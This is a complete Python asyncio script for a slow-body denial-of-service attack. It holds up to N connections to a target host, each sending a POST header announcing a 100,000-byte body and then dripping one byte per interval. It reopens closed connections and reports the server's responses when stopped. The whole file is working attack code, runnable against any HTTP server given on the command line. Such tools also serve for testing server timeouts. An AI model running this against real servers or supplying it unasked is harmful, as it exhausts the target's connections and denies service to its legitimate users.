"""Holds N connections that each send a POST head announcing a body, then one body byte every INTERVAL
seconds; a connection the server closes is opened again at once. Runs until killed (SIGTERM/SIGINT), then
prints how many connections it opened and which statuses the server answered them with.

    python3 slow_body_attack.py HOST PORT N INTERVAL

Standard library only.
"""

import asyncio
import collections
import signal
import sys

HEAD = b"POST /json HTTP/1.1\r\nHost: slow\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"


async def attacker(host, port, interval, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect errors"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        try:
            writer.write(HEAD)
            await writer.drain()
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                except asyncio.TimeoutError:
                    writer.write(b"x")
                    await writer.drain()
                    continue
                if not data:
                    stats["closed without an answer"] += 1
                    break
                status = data.split(b" ", 2)[1].decode(errors="replace") if data.startswith(b"HTTP/") else "?"
                stats["answered " + status] += 1
                await reader.read()  # until the server closes
                break
        except OSError:
            stats["reset"] += 1
        finally:
            writer.close()


async def main():
    host, port, n, interval = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    stats = collections.Counter()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    tasks = []
    for i in range(n):
        tasks.append(asyncio.create_task(attacker(host, port, interval, stats, stop)))
        if i % 250 == 249:
            await asyncio.sleep(0.25)
    print(f"attack: {n} connections open", flush=True)
    await stop.wait()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print("attack: " + ", ".join(f"{k} {v}" for k, v in sorted(stats.items())), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
